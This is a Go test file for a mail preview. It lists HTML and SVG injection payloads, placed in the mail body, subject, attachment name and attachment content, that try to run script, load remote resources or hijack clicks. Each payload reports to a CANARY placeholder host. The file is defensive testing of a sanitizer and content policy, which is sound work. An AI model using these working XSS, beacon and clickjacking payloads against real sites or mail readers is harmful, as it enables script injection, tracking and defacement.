package preview_test

// place is where in a mail an attack is.
type place int

const (
	inHTML place = iota
	inSubject
	inName // of an attachment
	inFile // the content of an attachment
)

// attack is text that makes a browser tell CANARY of it, or run a script that does.
type attack struct {
	name  string
	text  string
	place place
	// click is set when the reader has to click on it. It covers everything then.
	click bool
	// passesPolicy is set when Chromium connects in spite of the policy, though it asks for nothing, or follows
	// a link. It takes that the elements are not there, and that links lead nowhere.
	passesPolicy bool
	// svg is set when the file is SVG and not HTML.
	svg bool
}

// media returns the type of the file.
func (a attack) media() string {
	if a.svg {
		return "image/svg+xml"
	}
	return "text/html"
}

// alone returns where the attack is without the page around it.
func (a attack) alone() string {
	if a.place == inFile {
		return "part/0"
	}
	return "html"
}

const (
	// run is a script that tells of itself, and defaces the page if it can.
	run = `new Image().src='CANARY/ran'; try { top.document.title='defaced' } catch (e) {}; void 0`
	// cover makes something be hit by every click. With coverStyle it is pink, and teal under the mouse.
	cover      = `class="cover"`
	coverStyle = `<style>.cover { position: fixed; inset: 0; display: block; width: 100%; height: 100%; background: #e6007a }` +
		` .cover:hover { background: #009688 }</style>`
)

var attacks = []attack{
	{name: "script", text: `<script>` + run + `</script>`},
	{name: "script from elsewhere", text: `<script src="CANARY/x.js"></script>`},
	{name: "module", text: `<script type=module>` + run + `</script>`},
	{name: "onerror", text: `<img src="data:," onerror="` + run + `">`},
	{name: "onload", text: `<body onload="` + run + `">`},
	{name: "svg onload", text: `<svg/onload="` + run + `">`},
	{name: "svg script", text: `<svg><script>` + run + `</script></svg>`},
	{name: "ontoggle", text: `<details open ontoggle="` + run + `">`},
	{name: "onfocus", text: `<input autofocus onfocus="` + run + `">`},
	{name: "animation", text: `<style>@keyframes x {}</style><p style="animation: x 1ms" onanimationend="` + run + `">`},
	{name: "srcdoc", text: `<iframe srcdoc="<script>` + run + `</script>"></iframe>`},
	{name: "javascript frame", text: `<iframe src="javascript:` + run + `"></iframe>`},
	{name: "data frame", text: `<iframe src="data:text/html,<script>` + run + `</script>"></iframe>`},
	{name: "noscript", text: `<noscript><p title="</noscript><script>` + run + `</script>">`},
	{name: "script in svg style", text: `<svg><style><img src="data:," onerror="` + run + `"></style></svg>`},

	{name: "image", text: `<img src="CANARY/x.png">`},
	{name: "srcset", text: `<img srcset="CANARY/x.png 1x">`},
	{name: "picture", text: `<picture><source srcset="CANARY/x.png"><img></picture>`},
	{name: "svg image", text: `<svg><image href="CANARY/x.png" width="9" height="9"/></svg>`},
	{name: "input image", text: `<input type=image src="CANARY/x.png">`},
	{name: "background", text: `<body background="CANARY/x.png">x`},
	{name: "css background", text: `<p style="background: url(CANARY/x.png)">x</p>`},
	{name: "css content", text: `<style>p::before { content: url(CANARY/x.png) }</style><p>x</p>`},
	{name: "css import", text: `<style>@import "CANARY/x.css";</style>`},
	{name: "style sheet", text: `<link rel=stylesheet href="CANARY/x.css">`},
	{name: "font", text: `<style>@font-face { font-family: x; src: url(CANARY/x.woff2) } p { font-family: x }</style><p>x</p>`},
	{name: "frame", text: `<iframe src="CANARY/"></iframe>`, passesPolicy: true},
	{name: "frameset", text: `<frameset><frame src="CANARY/"></frameset>`, passesPolicy: true},
	{name: "object", text: `<object data="CANARY/x.html"></object>`},
	{name: "embed", text: `<embed src="CANARY/x.html">`},
	{name: "video", text: `<video src="CANARY/x.mp4" preload=auto></video>`},
	{name: "poster", text: `<video poster="CANARY/x.png"></video>`},
	{name: "audio", text: `<audio src="CANARY/x.mp3" preload=auto></audio>`},
	{name: "base", text: `<base href="CANARY/"><img src="x.png">`},
	{name: "meta refresh", text: `<meta http-equiv=refresh content="0; url=CANARY/">`},
	{name: "icon", text: `<link rel=preload as=image href="CANARY/x.png">`},
	{name: "preconnect", text: `<link rel=preconnect href="CANARY/">`, passesPolicy: true},
	{name: "preconnect in math", text: `<p><math><mtext><link rel=preconnect href="CANARY/"></mtext></math>`, passesPolicy: true},

	{name: "click on a script", text: `<a href="javascript:` + run + `" ` + cover + `>x</a>`, click: true},
	{name: "click on onclick", text: `<p onclick="` + run + `" ` + cover + `>x</p>`, click: true},
	{name: "click on a link", text: `<a href="CANARY/" ` + cover + `>x</a>`, click: true, passesPolicy: true},
	{name: "click on a link out of the frame", text: `<a target=_top href="CANARY/" ` + cover + `>x</a>`, click: true, passesPolicy: true},
	{name: "click on a link to a new window", text: `<a target=_blank href="CANARY/" ` + cover + `>x</a>`, click: true, passesPolicy: true},
	{name: "click on a form", text: `<form method=post action="CANARY/"><button ` + cover + `>x</button></form>`, click: true},
	{name: "click on formaction", text: `<form><button formaction="CANARY/" ` + cover + `>x</button></form>`, click: true},
	{name: "click on a map", text: `<form target=_top action="CANARY/"><input type=submit ` + cover + `></form>`, click: true},

	{name: "subject", text: `</title></h1><script>` + run + `</script><img src="CANARY/x.png">`, place: inSubject},
	{name: "file name", text: `"'></a><img src=CANARY/x.png onerror=1><script>` + run + `</script>`, place: inName},
	{name: "HTML file", text: `<script>` + run + `</script><img src="CANARY/x.png">`, place: inFile},
	{name: "SVG file", text: `<svg xmlns="http://www.w3.org/2000/svg"><script>` + run + `</script></svg>`, place: inFile, svg: true},
}
